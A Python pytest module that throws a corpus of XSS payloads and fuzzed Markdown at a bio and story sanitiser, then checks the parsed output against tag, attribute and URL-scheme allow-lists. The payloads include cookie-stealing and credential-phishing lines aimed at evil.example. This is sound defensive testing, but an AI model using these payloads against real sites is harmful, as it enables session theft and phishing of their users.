"""XSS attack corpus and fuzz test for ``portal.markdown`` (bios and culture stories).

Employees write Markdown; candidates read the HTML that ``render`` (bios) and
``render_story`` (stories) make of it. Both must be safe by construction, whatever an
author types, so this module throws a hand-written corpus of hostile inputs (spelling
variants of script tags, event handlers, dangerous URL schemes, htmx attributes, namespace
confusion, attribute breaking, floods) and Hypothesis-generated mixtures at both.

The output is not checked by searching it for bad strings: that is how sanitisers get
fooled (entity encoding, odd whitespace, parser quirks). Instead it is parsed the way a
browser parses it, with html5lib (an implementation of the WHATWG parsing algorithm), and
the resulting tree is walked:

* every element is on the allow-list ``portal.markdown.TAGS`` (no script, iframe, img, svg,
  math, form, meta, ...), and there are no comments or processing instructions;
* every attribute is on the per-tag allow-list ``portal.markdown.ATTRIBUTES`` (plus ``rel``
  on links), and none is an event handler, ``style``, an htmx or any ``data-`` attribute;
* every ``href`` has an allowed scheme (http, https, mailto, tel) once whitespace and
  control characters are squeezed out, or no scheme at all (a relative reference);
* every link carries ``rel="noopener noreferrer"``.

A few positive tests make sure the sanitiser does not pass these checks merely by
throwing everything away.
"""

from __future__ import annotations

import base64
import re
import unicodedata
from collections.abc import Callable, Iterator
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from portal.markdown import (
    ATTRIBUTES,
    BIO_HEADINGS,
    SCHEMES,
    STORY_HEADINGS,
    TAGS,
    render,
    render_story,
)

Renderer = Callable[[str], Markup]

RENDERERS = pytest.mark.parametrize("renderer", [render, render_story], ids=["bio", "story"])
UNCACHED_RENDERERS = pytest.mark.parametrize(
    "renderer", [render.__wrapped__, render_story.__wrapped__], ids=["bio", "story"]
)

# Elements that must never come out, whatever the allow-list says (see test_allow_list).
FORBIDDEN_TAGS = {
    "script", "style", "img", "svg", "math", "iframe", "frame", "frameset", "object",
    "embed", "applet", "form", "input", "button", "select", "textarea", "meta", "base",
    "link", "template", "noscript", "video", "audio", "source", "details", "body", "html",
}  # fmt: skip

B64_SCRIPT = base64.b64encode(b"<script>alert(1)</script>").decode()

# Each entry: (readable test id, payload). All payloads written for this test.
CORPUS: tuple[tuple[str, str], ...] = (
    # --- script tags, many spellings ---------------------------------------------------
    ("script-plain", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-upper-src", '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>'),
    ("script-slash-attr", '<script/xss src="//evil.example/x.js"></script>'),
    ("script-unclosed", "<script>alert(document.cookie)"),
    ("script-double-bracket", "<<script>alert(1);//<</script>"),
    ("script-null-split", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
    (
        "script-mid-sentence",
        "Hi <script>location='https://evil.example/?'+document.cookie</script>!",
    ),
    ("script-nested-halves", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
    ("script-newline-in-tag", "<script\n>alert(1)</script\n>"),
    ("script-heading", "# <script>alert(1)</script>"),
    ("script-setext-heading", "<script>alert(1)</script>\n==="),
    ("script-list-item", "- <script>alert(1)</script>\n- two"),
    ("script-blockquote", "> <script>alert(1)</script>"),
    # --- images and media (images are disabled entirely) -------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-backticks", "<img src=`x` onerror=`alert(1)`>"),
    ("img-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-javascript-src", '<IMG SRC="javascript:alert(1);">'),
    ("img-lowsrc-dynsrc", '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">'),
    ("img-srcset", '<img srcset="https://evil.example/track.png 1x">'),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    # --- svg / math and namespace confusion --------------------------------------------
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)//"),
    ("svg-script-cdata", "<svg><script><![CDATA[alert(1)]]></script></svg>"),
    (
        "svg-animate-href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=9 y=9>click</text></a></svg>",
    ),
    ("svg-use-data", f'<svg><use href="data:image/svg+xml;base64,{B64_SCRIPT}#x"/></svg>'),
    ("svg-foreignobject-iframe", '<svg><foreignObject><iframe src="javascript:alert(1)">'),
    ("math-xlink-href", '<math><maction xlink:href="javascript:alert(1)">click</maction></math>'),
    (
        "math-mglyph-style",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    ),
    ("math-href", '<math href="javascript:alert(1)">click</math>'),
    # --- frames, plugins ---------------------------------------------------------------
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object-data-html", f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>'),
    ("embed-src", '<embed src="https://evil.example/x.swf" allowscriptaccess="always">'),
    ("frameset-frame", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    ("applet-code", '<applet code="Evil.class" codebase="https://evil.example/"></applet>'),
    # --- style -------------------------------------------------------------------------
    ("style-tag-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-attr-expression", '<p style="width: expression(alert(1))">x</p>'),
    ("style-attr-url", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("style-attr-moz-binding", '<b style="-moz-binding:url(//evil.example/x.xml#x)">x</b>'),
    ("style-attr-overlay", '<a href="https://example.com" style="position:fixed;inset:0">x</a>'),
    # --- raw <a href> with dangerous schemes -------------------------------------------
    ("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    (
        "a-javascript-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    (
        "a-javascript-hex-entities-no-semicolon",
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    ),
    ("a-javascript-tab-split", '<a href="jav\tascript:alert(1)">x</a>'),
    ("a-javascript-newline-split", '<a href="java\nscript:alert(1)">x</a>'),
    ("a-javascript-leading-controls", '<a href=" \x01\x0bjavascript:alert(1)">x</a>'),
    ("a-javascript-mixed-case-unquoted", "<a href=JaVaScRiPt:alert(1)>x</a>"),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("a-onclick-ping-target", '<a href="https://example.com" onclick=alert(1) ping=//e.x>x</a>'),
    # --- Markdown links, autolinks and references -------------------------------------
    ("md-link-javascript", "[x](javascript:alert(1))"),
    ("md-link-javascript-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("md-link-javascript-colon-entity", "[x](javascript&colon;alert(1))"),
    ("md-link-javascript-numeric-entities", "[x](&#106;avascript&#58;alert(1))"),
    ("md-link-javascript-angle-brackets", "[x](<javascript:alert(1)>)"),
    ("md-link-javascript-space-in-brackets", "[x](<java script:alert(1)>)"),
    ("md-link-javascript-percent-colon", "[x](javascript%3Aalert(1))"),
    ("md-link-javascript-null", "[x](java\x00script:alert(1))"),
    ("md-link-javascript-zero-width", "[x](java\u200bscript:alert(1))"),
    ("md-link-javascript-leading-control", "[x](\x01javascript:alert(1))"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-data-html", f"[x](data:text/html;base64,{B64_SCRIPT})"),
    ("md-link-data-image", "[x](data:image/png;base64,iVBORw0KGgo=)"),
    ("md-link-file", "[x](file:///etc/passwd)"),
    ("md-autolink-javascript", "<javascript:alert(1)>"),
    ("md-autolink-vbscript-upper", "<VBSCRIPT:msgbox(1)>"),
    ("md-autolink-data", "<data:text/html,alert(1)>"),
    ("md-reference-javascript", "[x][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-reference-entity-scheme", '[x][evil]\n\n[evil]: &#x6a;avascript:alert(1) "t"'),
    ("md-reference-collapsed-data", f"[evil][]\n\n[evil]: data:text/html;base64,{B64_SCRIPT}"),
    ("md-reference-shortcut-vbscript", "[evil]\n\n[evil]: <vbscript:msgbox(1)>"),
    ("md-link-protocol-relative", "[x](//evil.example/phish)"),
    # --- Markdown images (must vanish: no <img> at all) -------------------------------
    ("md-image-javascript", "![x](javascript:alert(1))"),
    ("md-image-external", "![x](https://evil.example/x.png)"),
    ("md-image-tracking-reference", "![x][pic]\n\n[pic]: https://evil.example/track.gif"),
    ("md-image-inside-link", "[![x](https://evil.example/x.png)](https://example.com)"),
    ("md-image-title-break", '![x](https://evil.example/x.png "\\" onerror=\\"alert(1)")'),
    # --- htmx attributes (a bio or story must never make a request) --------------------
    ("hx-get-load", '<div hx-get="/admin/delete" hx-trigger="load">x</div>'),
    ("hx-post-mouseover", '<button hx-post="/logout" hx-trigger="mouseover">x</button>'),
    ("data-hx-get", '<span data-hx-get="/api/me" data-hx-trigger="revealed">x</span>'),
    ("hx-on-click", '<a href="https://example.com" hx-on:click="alert(1)">x</a>'),
    ("hx-on-double-colon", '<a href="https://example.com" hx-on::before-request="alert(1)">x</a>'),
    ("hx-swap-body", '<p hx-get="/x" hx-swap="outerHTML" hx-target="body" hx-vals=\'{"a":1}\'>'),
    ("hx-in-link-text", '[<b hx-get="/steal" hx-trigger="load">x</b>](https://example.com)'),
    # --- forms -------------------------------------------------------------------------
    (
        "form-credential-phish",
        '<form action="https://evil.example/steal" method="post">'
        '<input name="password" type="password"><button>Sign in</button></form>',
    ),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    ("select-textarea", "<select onchange=alert(1)><option>1</option></select><textarea>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    # --- document-level tags -----------------------------------------------------------
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    (
        "meta-refresh-data",
        f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html,{B64_SCRIPT}">',
    ),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    # --- comments, CDATA, processing instructions --------------------------------------
    ("html-comment", "<!-- <script>alert(1)</script> -->"),
    ("conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("comment-breakout", "<!--><img src=x onerror=alert(1)>-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    (
        "xml-namespace-import",
        '<html xmlns:x><?import namespace="x" implementation="//evil.example/x.htc">'
        "<x:x>x</x:x></html>",
    ),
    # --- escapes, null bytes, unicode --------------------------------------------------
    ("unicode-escape-text", r"\u003cscript\u003ealert(1)\u003c/script\u003e"),
    ("backslash-escaped-tags", r"\<script\>alert(1)\</script\>"),
    ("entity-encoded-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("double-encoded-script", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("line-separator-scheme", '<a href="\u2028javascript:alert(1)">x</a>'),
    ("null-bytes-everywhere", "\x00<\x00img src=x onerror=alert(1)\x00>\x00"),
    # --- breaking out of attributes through link titles and destinations ----------------
    ("title-double-quote-break", '[x](https://a "a\\" onmouseover=alert(1))'),
    ("title-double-quote-break-closed", '[x](https://example.com "a\\" onmouseover=\\"alert(1)")'),
    ("title-single-quote-break", "[x](https://example.com 'a\\' onmouseover=alert(1) x=\\'')"),
    ("title-backtick", '[x](https://example.com "`onmouseover=alert(1)`")'),
    ("title-parentheses", '[x](https://example.com (" onfocus=alert(1) autofocus x="))'),
    ("title-angle-brackets", '[x](https://example.com "><script>alert(1)</script>")'),
    ("href-quote-break", '[x](https://example.com/"onmouseover="alert(1))'),
    ("href-angle-quote-break", '[x](<https://example.com/"><script>alert(1)</script>>)'),
    ("autolink-quote-break", '<https://example.com/"onmouseover="alert(1)>'),
    ("mailto-query-break", '[x](mailto:a@example.com?subject="onmouseover="alert(1))'),
    (
        "reference-title-break",
        '[x][r]\n\n[r]: https://example.com "\\"><img src=x onerror=alert(1)>"',
    ),
    # --- HTML inside link text ---------------------------------------------------------
    ("link-text-script", "[<script>alert(1)</script>](https://example.com)"),
    ("link-text-img", "[<img src=x onerror=alert(1)>](https://example.com)"),
    ("link-text-nested-javascript-link", "[[x](javascript:alert(1))](https://example.com)"),
    ("link-then-script", "[x](https://example.com)<script>alert(1)</script>"),
    # --- nested, unclosed and mutation-prone markup ------------------------------------
    ("unclosed-onclick", '<a href="https://example.com" onclick="alert(1)'),
    ("unclosed-nest", "<p><b><i><a href=javascript:alert(1)>x"),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("title-element-mutation", '<title><a title="</title><img src=x onerror=alert(1)>">'),
    ("xmp-script", "<xmp><script>alert(1)</script></xmp>"),
    ("plaintext-script", "<plaintext><script>alert(1)</script>"),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("table-background", '<table><tr><td background="javascript:alert(1)">x</td></tr></table>'),
    # --- very long payloads ------------------------------------------------------------
    ("long-script-flood", "<script>" * 2000 + "alert(1)" + "</script>" * 2000),
    ("long-javascript-links", "[x](javascript:alert(1)) " * 500),
    ("long-blockquote-nesting", ">" * 300 + " [x](javascript:alert(1)) <svg onload=alert(1)>"),
    ("long-emphasis-run", "*" * 5000 + "<img src=x onerror=alert(1)>" + "_" * 5000),
    ("long-link-title", '[x](https://example.com "' + '\\"' * 2000 + ' onmouseover=alert(1)")'),
    ("long-list-nesting", "".join("  " * i + "- <b onclick=alert(1)>x</b>\n" for i in range(200))),
    # --- code spans and blocks (HTML must come out as escaped text) --------------------
    ("code-span-script", "`<script>alert(1)</script>`"),
    ("code-fenced-html", "```html\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```"),
    ("code-indented-iframe", "    <iframe src=javascript:alert(1)></iframe>"),
    ("code-fence-info-quote-break", '```" onmouseover="alert(1)\n<b>x</b>\n```'),
    ("code-fence-info-script", "~~~<script>alert(1)</script>\ncode\n~~~"),
)


# --- the invariants ------------------------------------------------------------------


def parse(html: str) -> Element:
    """Parse an HTML fragment the way a browser would (WHATWG algorithm, in a <div>)."""
    fragment: Element = html5lib.parseFragment(
        html, treebuilder="etree", namespaceHTMLElements=False
    )
    return fragment


def scheme(href: str) -> str | None:
    """The URL scheme of ``href``, read pessimistically; ``None`` for a relative reference.

    Browsers drop tabs and newlines anywhere in a URL and trim other controls and spaces at
    its ends; here every whitespace, control and format character is dropped wherever it is
    (so ``java\\tscript:``, `` \\x01javascript:`` and ``java\\u200bscript:`` all count as
    ``javascript``), then the name is lower-cased.
    """
    squeezed = "".join(
        char
        for char in href
        if not (char.isspace() or unicodedata.category(char) in {"Cc", "Cf", "Zl", "Zp"})
    ).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", squeezed)
    return match.group(1) if match else None


def violations(html: str) -> Iterator[str]:
    """Every way in which sanitised ``html`` breaks the rules, as readable messages."""
    fragment = parse(html)
    for element in fragment.iter():
        if element is fragment:
            continue
        tag = element.tag
        if not isinstance(tag, str):  # html5lib's etree uses functions for comments and PIs
            yield f"non-element node {tag.__name__}: {element.text!r}"
            continue
        if tag not in TAGS:
            yield f"<{tag}> is not an allowed element"
        allowed = ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        for name, value in element.attrib.items():
            lowered = name.lower()
            if lowered.startswith("on"):
                yield f"<{tag} {name}> is an event handler"
            if lowered == "style":
                yield f"<{tag} style> is not allowed"
            if lowered.startswith(("hx-", "data-hx-", "data-")):
                yield f"<{tag} {name}> is an htmx or data attribute"
            if name not in allowed:
                yield f"<{tag} {name}={value!r}> is not an allowed attribute"
        href = element.get("href")
        if href is not None:
            found = scheme(href)
            if found is not None and found not in SCHEMES:
                yield f"<{tag} href={href!r}> has the disallowed scheme {found!r}"
            if found in {"javascript", "vbscript", "data"}:
                yield f"<{tag} href={href!r}> is a script or data link"
            # Every link, not only http(s) ones: a relative "//host/path" leaves the site too.
            rel = set((element.get("rel") or "").lower().split())
            if not {"noopener", "noreferrer"} <= rel:
                yield f"<{tag} href={href!r}> lacks rel=noopener noreferrer (rel={rel})"


def assert_safe(renderer: Renderer, text: str) -> None:
    out = renderer(text)
    assert isinstance(out, Markup)
    problems = list(violations(str(out)))
    assert not problems, "\n".join([*problems, "in output:", str(out)])


# --- the corpus ----------------------------------------------------------------------


def test_corpus_is_large_and_distinct() -> None:
    ids = [case_id for case_id, _ in CORPUS]
    payloads = [payload for _, payload in CORPUS]
    assert len(CORPUS) >= 60
    assert len(set(ids)) == len(ids), "test ids must be unique"
    assert len(set(payloads)) == len(payloads), "payloads must be distinct"


def test_allow_list() -> None:
    """The tree walk trusts TAGS and ATTRIBUTES; make sure they are tight themselves."""
    assert not TAGS & FORBIDDEN_TAGS
    for tag, names in ATTRIBUTES.items():
        assert tag in TAGS
        for name in names:
            assert not name.startswith(("on", "hx-", "data-")), name
            assert name not in {"style", "src", "srcset", "action", "formaction"}, name
    assert {"http", "https", "mailto", "tel"} >= SCHEMES


@RENDERERS
@pytest.mark.parametrize("payload", [pytest.param(text, id=name) for name, text in CORPUS])
def test_corpus_payload_is_neutralised(renderer: Renderer, payload: str) -> None:
    assert_safe(renderer, payload)


def test_checker_catches_what_it_should() -> None:
    """Guard against a tree walk that passes everything: feed it known-bad HTML."""
    bad = {
        "<script>alert(1)</script>": "<script>",
        '<p onclick="x">a</p>': "event handler",
        '<p style="x">a</p>': "style",
        '<p hx-get="/x">a</p>': "htmx",
        '<p data-hx-post="/x">a</p>': "htmx",
        '<a href="jav&#x09;ascript:alert(1)" rel="noopener noreferrer">a</a>': "scheme",
        '<a href=" \x01VBScript:x" rel="noopener noreferrer">a</a>': "scheme",
        '<a href="data:text/html,x" rel="noopener noreferrer">a</a>': "scheme",
        '<a href="https://example.com">a</a>': "noopener",
        '<a href="https://example.com" rel="noopener noreferrer" class="x">a</a>': "class",
        "<p><!-- hidden --></p>": "non-element",
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>': "svg",
        "<math><mi>x</mi></math>": "math",
    }
    for html, expected in bad.items():
        problems = " ".join(violations(html))
        assert expected in problems, (html, problems)
    assert not list(violations('<a href="tel:+4912345" rel="noopener noreferrer">t</a>'))


# --- fuzzing -------------------------------------------------------------------------

DANGEROUS_FRAGMENTS = (
    "<script>", "</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<style>", ' style="x:expression(alert(1))"',
    "javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,",
    "&#106;", "&#x3A;", "&colon;", "&#58", "%3A", "\x00", "\u200b", "alert(1)",
    ' hx-get="/x"', ' data-hx-post="/x"', ' hx-on:click="alert(1)"', " onmouseover=",
    '"', "'", "`", "<!--", "-->", "<![CDATA[", "]]>", "<math>", "<svg>", '<a href="',
    "<form>", "<input autofocus onfocus=alert(1)>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<noscript>",
    "<template>", "</title>", "<", ">", "\\", "&", ";",
)  # fmt: skip

MARKDOWN_SYNTAX = (
    "[", "]", "(", ")", "![", "](", "]: ", "[x]", "[x]: ", "\n", "\n\n", "# ", "## ",
    "###### ", "> ", "- ", "1. ", "7) ", "* ", "**", "__", "_", "`", "```", "~~~",
    "    ", "---", "===", "<", ">", "https://example.com", "mailto:a@example.com",
    "tel:+1", "//evil.example", ' "title"', " 'title'", " (title)", "\\",
)  # fmt: skip

SCHEME_PIECES = (
    "java", "script", "JAVA", "Script", "vb", "data", ":", "&#58;", "&colon;", "%3a",
    "\t", "\n", " ", "\x00", "\x01", "\u200b", "&#x6a;", "&#106;", "text/html,",
    "alert(1)", "https", "http", "mailto", "tel", "//", "/", "<", ">", '"', "'",
)  # fmt: skip

LINK_FORMS = (
    "[{text}]({destination})",
    '[{text}]({destination} "{title}")',
    "[{text}]({destination} '{title}')",
    "[{text}](<{destination}>)",
    "<{destination}>",
    "![{text}]({destination})",
    "[{text}][r]\n\n[r]: {destination} '{title}'\n",
    "[{text}]\n\n[{text}]: <{destination}>\n",
)

pieces = st.one_of(
    st.sampled_from(DANGEROUS_FRAGMENTS),
    st.sampled_from(MARKDOWN_SYNTAX),
    st.text(max_size=12),
)
destinations = st.lists(
    st.one_of(st.sampled_from(SCHEME_PIECES), st.text(max_size=6)), min_size=1, max_size=6
).map("".join)
links = st.builds(
    str.format,
    st.sampled_from(LINK_FORMS),
    text=st.lists(pieces, max_size=4).map("".join),
    destination=destinations,
    title=st.lists(pieces, max_size=3).map("".join),
)
texts = st.lists(st.one_of(pieces, links), max_size=30).map("".join)


@UNCACHED_RENDERERS
@settings(
    max_examples=300,
    deadline=None,
    database=None,  # nothing written into the working tree
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(text=texts)
def test_fuzzed_markdown_is_neutralised(renderer: Renderer, text: str) -> None:
    assert_safe(renderer, text)


# --- the sanitiser still lets the good things through --------------------------------


@RENDERERS
def test_bold(renderer: Renderer) -> None:
    strong = parse(str(renderer("some **bold** text"))).find("p/strong")
    assert strong is not None
    assert strong.text == "bold"


@RENDERERS
def test_link_keeps_href_and_gains_rel(renderer: Renderer) -> None:
    link = parse(str(renderer("[link](https://example.com)"))).find("p/a")
    assert link is not None
    assert link.text == "link"
    assert link.get("href") == "https://example.com"
    assert {"noopener", "noreferrer"} <= set((link.get("rel") or "").split())


@pytest.mark.parametrize(
    ("renderer", "headings"),
    [(render, BIO_HEADINGS), (render_story, STORY_HEADINGS)],
    ids=["bio", "story"],
)
@pytest.mark.parametrize("level", range(1, 7))
def test_headings_are_shifted(renderer: Renderer, headings: dict[int, int], level: int) -> None:
    children = list(parse(str(renderer("#" * level + " Title"))))
    assert [(child.tag, child.text) for child in children] == [(f"h{headings[level]}", "Title")]


def test_top_heading_is_h2_in_a_story_and_h3_in_a_bio() -> None:
    assert parse(str(render_story("# Title"))).find("h2") is not None
    assert parse(str(render("# Title"))).find("h3") is not None


@RENDERERS
def test_list(renderer: Renderer) -> None:
    items = parse(str(renderer("- one\n- two\n"))).findall("ul/li")
    assert [item.text for item in items] == ["one", "two"]


@RENDERERS
def test_code_block_shows_script_as_text(renderer: Renderer) -> None:
    out = str(renderer("```html\n<script>alert(1)</script>\n```"))
    fragment = parse(out)
    code = fragment.find("pre/code")
    assert code is not None
    assert code.text == "<script>alert(1)</script>\n"
    assert fragment.find(".//script") is None
    assert "&lt;script&gt;" in out
